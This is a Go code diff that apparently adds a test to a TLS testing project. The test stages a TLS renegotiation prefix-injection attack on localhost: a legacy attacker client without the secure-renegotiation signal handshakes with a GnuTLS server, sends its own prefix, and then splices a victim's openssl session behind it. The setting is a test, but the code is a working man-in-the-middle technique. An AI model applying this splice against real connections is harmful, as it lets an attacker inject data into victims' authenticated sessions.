@@ -12,6 +12,7 @@ import (
 	"testing"
 	"time"
 
+	"github.com/parley-tls/parley/internal/legacyclient"
 	"github.com/parley-tls/parley/internal/visit"
 	"github.com/parley-tls/parley/internal/wire"
 )
@@ -141,5 +142,40 @@ func awaitPort(t *testing.T, address string) {
 			t.Fatal(err)
 		}
 		time.Sleep(20 * time.Millisecond)
+	}
+}
+
+// What a report calls unsafe is: the attack, carried out with a real victim that
+// knows RFC 5746, ends with the victim's data behind the attacker's.
+func TestWhatAReportCallsUnsafeIs(t *testing.T) {
+	address := gnutlsServer(t, "NORMAL:+VERS-TLS1.0")
+	conn, err := net.Dial("tcp", address)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer conn.Close()
+	attacker := legacyclient.New(conn, legacyclient.Options{Version: wire.VersionTLS10, NoSCSV: true, Timeout: patience})
+	if err := attacker.Handshake(); err != nil {
+		t.Fatal(err)
+	}
+	if err := attacker.Echo([]byte("the attacker's prefix\n")); err != nil {
+		t.Fatal(err)
+	}
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer l.Close()
+	go func() {
+		_, _ = peers(t).SClient(minute(t), l.Addr().String(), 0, "-tls1")
+	}()
+	victim, err := l.Accept()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer victim.Close()
+	spliced, err := (&legacyclient.Splice{Attacker: attacker, Victim: victim, Timeout: 5 * time.Second}).Run()
+	if err != nil || !spliced.Complete() || spliced.ToServer.Data == 0 {
+		t.Errorf("%v: %+v", err, spliced)
 	}
 }
